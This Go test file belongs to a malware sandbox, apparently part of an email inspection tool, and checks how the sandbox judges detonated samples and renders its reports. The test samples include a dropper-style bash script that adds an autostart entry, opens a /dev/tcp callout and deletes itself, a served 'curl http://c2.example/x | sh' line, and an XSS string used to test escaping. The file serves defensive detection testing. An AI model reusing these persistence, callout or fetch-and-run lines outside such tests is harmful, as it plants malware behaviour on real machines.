package sandbox

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"mailinspector/internal/sandbox/agent"
	"mailinspector/internal/testutil"
)

// detonate runs a script on the real agent under the real strace (on this
// machine, standing in for a guest) and returns its report.
func detonate(t *testing.T, name, script string) *agent.Report {
	t.Helper()
	s := &agent.Server{Key: []byte("k"), WorkDir: t.TempDir(), Strace: testutil.RequireTool(t, "strace"), MaxTimeout: 20 * time.Second}
	srv := httptest.NewServer(s.Handler())
	defer srv.Close()
	c := &agent.Client{Addr: strings.TrimPrefix(srv.URL, "http://"), Key: []byte("k")}
	rep, err := c.Run(context.Background(), &agent.RunRequest{Token: agent.NewToken(), Name: name, Sample: []byte(script), TimeoutMS: 10000}, nil)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

func matched(v Verdict) map[string]Match {
	m := map[string]Match{}
	for _, x := range v.Matches {
		m[x.ID] = x
	}
	return m
}

// A dropper that installs an autostart entry, calls out and deletes itself
// is high risk, each behaviour named with its ATT&CK ids.
func TestJudgeHighRiskBehaviour(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	rep := detonate(t, "invoice.sh", `#!/bin/bash
mkdir -p "$HOME/.config/autostart"
printf '[Desktop Entry]\nExec=%s\n' "$HOME/.local/upd" > "$HOME/.config/autostart/upd.desktop"
cp /bin/true "$HOME/upd" && "$HOME/upd"
timeout 1 bash -c 'exec 3<>/dev/tcp/192.0.2.1/443' 2>/dev/null
rm -f "$0"
`)
	v := Judge(rep)
	m := matched(v)
	if v.Failed || v.Risk != RiskHigh {
		t.Fatalf("verdict %+v\nevents %v", v, rep.Events)
	}
	for _, id := range []string{"persistence", "drop-and-run", "callout", "self-delete"} {
		if _, ok := m[id]; !ok {
			t.Errorf("rule %s did not match; verdict %s; events %v", id, v.Summary(), rep.Events)
		}
	}
	if p := m["persistence"]; len(p.Attack) == 0 || !strings.Contains(strings.Join(p.Evidence, " "), "upd.desktop") {
		t.Errorf("persistence match %+v", p)
	}
	if c := m["callout"]; len(c.Evidence) == 0 || c.Evidence[0] != "192.0.2.1:443" {
		t.Errorf("callout %+v", c)
	}
}

// A script that only computes and writes in its own directory is no risk,
// and the verdict says it ran.
func TestJudgeBenignScriptIsNoRisk(t *testing.T) {
	rep := detonate(t, "report.sh", "#!/bin/sh\necho total > summary.txt\nexpr 6 \\* 7\n")
	v := Judge(rep)
	if v.Failed || v.Risk != RiskNone || len(v.Matches) != 0 || !strings.Contains(rep.Output, "42") {
		t.Fatalf("verdict %+v; report %+v", v, rep)
	}
}

// Nothing ran: failed, never clean.
func TestJudgeNothingRanIsFailed(t *testing.T) {
	rep := detonate(t, "scan.jpg", "\xff\xd8\xff\xe0 a picture")
	v := Judge(rep)
	if !v.Failed || v.Risk != "" || !strings.Contains(v.Reason, "did not run") {
		t.Fatalf("verdict %+v", v)
	}
	if v := Judge(&agent.Report{Ran: true, Tracer: "none"}); !v.Failed {
		t.Fatalf("untraced and silent: %+v", v)
	}
}

// The HTML page names the verdict, the rules with their evidence, the
// process tree and the network attempts, and escapes what the sample chose
// (its name, its command lines).
func TestReportHTML(t *testing.T) {
	t.Setenv("HOME", t.TempDir())
	rep := detonate(t, "<b>x</b>.sh", "#!/bin/bash\nmkdir -p \"$HOME/.config/autostart\" && echo x > \"$HOME/.config/autostart/a.desktop\"\n"+
		"timeout 1 bash -c 'exec 3<>/dev/tcp/192.0.2.1/80' 2>/dev/null\necho '<script>alert(1)</script>'\n")
	a := &AnalysisReport{SHA256: "ab12", Name: rep.Name + "<script>", Image: "linux", Instance: "mi-sbx-linux-0",
		Finished: time.Now(), Verdict: Judge(rep), Report: rep}
	a.Report.Name = "<b>x</b>.sh"
	page, err := HTML(a)
	if err != nil {
		t.Fatal(err)
	}
	h := string(page)
	for _, want := range []string{"high risk", "persistence", "T1547", "a.desktop", "192.0.2.1:80", "/usr/bin/mkdir", "&lt;script&gt;"} {
		if !strings.Contains(h, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	if strings.Contains(h, "<script>") || strings.Contains(h, "<b>x") {
		t.Error("the page carries the sample's markup unescaped")
	}
	tree := Tree(rep)
	if len(tree) != 1 || len(tree[0].Children) == 0 {
		t.Fatalf("process tree %+v", tree)
	}
	if !strings.Contains(h, "none taken") {
		t.Error("the page does not say no screenshot was taken")
	}
	// A screenshot is in the page as a data URL the page's policy allows;
	// a failed one is said.
	png, err := screenshotPNG([]byte("P6\n1 1\n255\n\x00\x80\xff"))
	if err != nil {
		t.Fatal(err)
	}
	a.SetScreenshot(&Screenshot{PNG: png})
	page, err = HTML(a)
	if err != nil {
		t.Fatal(err)
	}
	if h := string(page); !strings.Contains(h, `<img src="data:image/png;base64,`) || !strings.Contains(h, "img-src data:") || a.Screenshot.Bytes != len(png) {
		t.Errorf("screenshot in the page: %+v", a.Screenshot)
	}
	a.SetScreenshot(&Screenshot{Error: "no display <here>"})
	page, _ = HTML(a)
	if !strings.Contains(string(page), "none: no display &lt;here&gt;") {
		t.Error("a failed screenshot is not said")
	}
}

// strace may print a child's exec before its parent's clone returns: the
// tree still hangs the child from its parent, through a subshell that
// never exec'd.
func TestTreeWithOutOfOrderForks(t *testing.T) {
	r := &agent.Report{Events: []agent.Event{
		{Type: agent.EvExec, PID: 10, Path: "/tmp/run/x.sh"},
		{Type: agent.EvExec, PID: 12, Path: "/usr/bin/curl"},
		{Type: agent.EvFork, PID: 11, PPID: 10}, // a subshell
		{Type: agent.EvFork, PID: 12, PPID: 11},
		{Type: agent.EvExec, PID: 13, PPID: 10, Path: "/usr/bin/rm"},
	}}
	tree := Tree(r)
	if len(tree) != 1 || tree[0].PID != 10 || len(tree[0].Children) != 2 || tree[0].Children[0].PID != 12 {
		t.Fatalf("tree %+v", tree)
	}
}

// Links run by the real agent with the real curl: a page asking for a
// password and a script download are each medium risk by their own rule,
// the fetch's own connection is not a callout, and a plain page is no
// risk.
func TestJudgeLinks(t *testing.T) {
	testutil.RequireTool(t, "curl")
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/login":
			io.WriteString(w, `<html><form><input type="password"></form></html>`)
		case "/get":
			io.WriteString(w, "#!/bin/sh\ncurl http://c2.example/x | sh\n")
		default:
			io.WriteString(w, "<html><body>Newsletter</body></html>")
		}
	}))
	defer web.Close()
	s := &agent.Server{Key: []byte("k"), WorkDir: t.TempDir(), Strace: testutil.RequireTool(t, "strace"), MaxTimeout: 20 * time.Second}
	for path, want := range map[string]struct{ risk, rule string }{
		"/login": {RiskMedium, "link-login"}, "/get": {RiskMedium, "link-program"}, "/news": {RiskNone, ""},
	} {
		srv := httptest.NewServer((&agent.Server{Key: s.Key, WorkDir: s.WorkDir, Strace: s.Strace, MaxTimeout: s.MaxTimeout}).Handler())
		c := &agent.Client{Addr: strings.TrimPrefix(srv.URL, "http://"), Key: []byte("k")}
		rep, err := c.Run(context.Background(), &agent.RunRequest{Token: agent.NewToken(), Name: web.URL + path, URL: web.URL + path, TimeoutMS: 10000}, nil)
		srv.Close()
		if err != nil {
			t.Fatal(err)
		}
		v := Judge(rep)
		m := matched(v)
		n := 1
		if want.rule == "" {
			n = 0
		}
		if v.Failed || v.Risk != want.risk || len(v.Matches) != n {
			t.Errorf("%s: verdict %s (%+v); events %v", path, v.Summary(), v, rep.Events)
		}
		if _, ok := m[want.rule]; want.rule != "" && !ok {
			t.Errorf("%s: rule %s did not match: %s", path, want.rule, v.Summary())
		}
		if _, ok := m["callout"]; ok {
			t.Errorf("%s: the fetch itself counted as a callout", path)
		}
	}
}
